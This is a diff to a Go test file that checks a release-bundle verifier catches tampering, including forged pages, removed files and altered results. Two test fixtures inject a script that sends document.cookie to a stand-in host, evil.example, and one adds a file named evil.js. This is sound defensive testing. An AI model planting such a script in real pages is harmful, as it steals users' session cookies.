@@ -58,6 +58,9 @@ func TestVerifyNamesEveryChange(t *testing.T) {
 		change func(root string, files map[string][]byte)
 		want   []string // "path kind", in report order
 		detail string   // in the first problem's detail
+		// some: want lists some of the problems, in order, not all: a
+		// changed input changes many pages too.
+		some bool
 	}{
 		{
 			name:   "one changed byte in a page",
@@ -103,11 +106,11 @@ func TestVerifyNamesEveryChange(t *testing.T) {
 				remanifest(f)
 			},
 			want: []string{
-				"inputs/ altered",
+				"inputs/ altered", "RELEASE_REPORT.md differs", "index.html differs",
 				"results/baseline-v1.json differs", "results/candidate-v2.json differs", "results/candidate-v3.json differs",
-				"RELEASE_REPORT.md differs",
 			},
 			detail: "the inputs hash to",
+			some:   true,
 		},
 		{
 			name: "a removed snapshot, MANIFEST edited to match",
@@ -115,8 +118,55 @@ func TestVerifyNamesEveryChange(t *testing.T) {
 				delete(f, "inputs/outputs/baseline-v1.jsonl")
 				remanifest(f)
 			},
-			want:   []string{"inputs/ altered", "results/baseline-v1.json differs", "RELEASE_REPORT.md differs"},
+			want:   []string{"inputs/ altered", "RELEASE_REPORT.md differs", "index.html differs", "results/baseline-v1.json differs", "snapshots/baseline-v1.html extra"},
 			detail: "the inputs hash to",
+			some:   true,
+		},
+		{
+			name: "a forged page, MANIFEST edited to match",
+			change: func(_ string, f map[string][]byte) {
+				f["index.html"] = bytes.Replace(f["index.html"], []byte("Blocked"), []byte("Approved"), 1)
+				remanifest(f)
+			},
+			want:   []string{"index.html differs"},
+			detail: "not what the bundled inputs build: line",
+		},
+		{
+			name: "a script injected into a page, MANIFEST edited to match",
+			change: func(_ string, f map[string][]byte) {
+				p := "snapshots/candidate-v3.html"
+				f[p] = bytes.Replace(f[p], []byte("</body>"), []byte("<script>fetch('https://evil.example/'+document.cookie)</script></body>"), 1)
+				remanifest(f)
+			},
+			want:   []string{"snapshots/candidate-v3.html differs"},
+			detail: "evil.example",
+		},
+		{
+			name: "an injected script file, MANIFEST edited to match",
+			change: func(_ string, f map[string][]byte) {
+				f["assets/evil.js"] = []byte("fetch('https://evil.example/')\n")
+				remanifest(f)
+			},
+			want:   []string{"assets/evil.js extra"},
+			detail: "not part of the site",
+		},
+		{
+			name: "an altered asset, MANIFEST edited to match",
+			change: func(_ string, f map[string][]byte) {
+				f["assets/site.css"] = append(f["assets/site.css"], []byte("body{display:none}\n")...)
+				remanifest(f)
+			},
+			want:   []string{"assets/site.css differs"},
+			detail: "display:none",
+		},
+		{
+			name: "a page removed, MANIFEST edited to match",
+			change: func(_ string, f map[string][]byte) {
+				delete(f, "policy.html")
+				remanifest(f)
+			},
+			want:   []string{"policy.html missing"},
+			detail: "rebuilt from inputs/ has this file",
 		},
 		{
 			name: "all at once",
@@ -160,7 +210,11 @@ func TestVerifyNamesEveryChange(t *testing.T) {
 			if rep.Verified() {
 				t.Fatal("a changed bundle is verified")
 			}
-			if got := problemKeys(rep.Problems); !slices.Equal(got, tt.want) {
+			got := problemKeys(rep.Problems)
+			if tt.some {
+				got = slices.DeleteFunc(got, func(k string) bool { return !slices.Contains(tt.want, k) })
+			}
+			if !slices.Equal(got, tt.want) {
 				t.Fatalf("problems %q, want %q\n%v", got, tt.want, rep.Problems)
 			}
 			if !strings.Contains(rep.Problems[0].Detail, tt.detail) {
@@ -310,5 +364,61 @@ func TestVerifyAcceptsFolderEntries(t *testing.T) {
 	}
 	if len(dirs) < 3 {
 		t.Errorf("only %d folder entries; the test needs nested folders", len(dirs))
+	}
+}
+
+func TestVerifyBundleOfAnotherVersion(t *testing.T) {
+	good := makeBundle(t, sampleData, time.Time{})
+	// Made by another releasegate whose pages differ: said plainly, the
+	// pages unproven, the results and report still proven.
+	other := rewriteBundle(t, good, func(_ string, f map[string][]byte) {
+		f[VersionName] = []byte("releasegate v9.9.9\n")
+		f["index.html"] = bytes.Replace(f["index.html"], []byte("<main"), []byte("<main data-v9"), 1)
+		remanifest(f)
+	})
+	rep, err := Verify(other, VerifyOptions{TempDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !rep.OtherVersion || rep.MadeBy != "releasegate v9.9.9" {
+		t.Errorf("OtherVersion %v, MadeBy %q", rep.OtherVersion, rep.MadeBy)
+	}
+	if got := problemKeys(rep.Problems); !slices.Equal(got, []string{"index.html unproven"}) {
+		t.Fatalf("problems %q", got)
+	}
+	if d := rep.Problems[0].Detail; !strings.Contains(d, "releasegate v9.9.9") {
+		t.Errorf("detail %q does not name the other version", d)
+	}
+	// Same pages, another version: everything is proven.
+	same := rewriteBundle(t, good, func(_ string, f map[string][]byte) {
+		f[VersionName] = []byte("releasegate v9.9.9\n")
+		remanifest(f)
+	})
+	if rep, err := Verify(same, VerifyOptions{TempDir: t.TempDir()}); err != nil || !rep.Verified() || !rep.OtherVersion {
+		t.Fatalf("Verify = %+v, %v", rep, err)
+	}
+	// A forged result is forged whoever made the bundle.
+	forged := rewriteBundle(t, good, func(_ string, f map[string][]byte) {
+		f[VersionName] = []byte("releasegate v9.9.9\n")
+		p := "results/candidate-v3.json"
+		f[p] = bytes.Replace(f[p], []byte(`"decision": "PASS"`), []byte(`"decision": "BLOCK"`), 1)
+		remanifest(f)
+	})
+	rep, err = Verify(forged, VerifyOptions{TempDir: t.TempDir()})
+	if err != nil || !slices.Contains(problemKeys(rep.Problems), "results/candidate-v3.json differs") {
+		t.Fatalf("Verify = %+v, %v", rep, err)
+	}
+}
+
+func TestVerifyLeavesNoStagingFolder(t *testing.T) {
+	good := makeBundle(t, sampleData, time.Time{})
+	tmp := t.TempDir()
+	// A folder left by a killed verify (no process holds it) is swept.
+	os.MkdirAll(filepath.Join(tmp, "releasegate-verify-123", "bundle"), 0o755)
+	if _, err := Verify(good, VerifyOptions{TempDir: tmp}); err != nil {
+		t.Fatal(err)
+	}
+	if entries, _ := os.ReadDir(tmp); len(entries) != 0 {
+		t.Errorf("left in the temporary folder: %v", entries)
 	}
 }
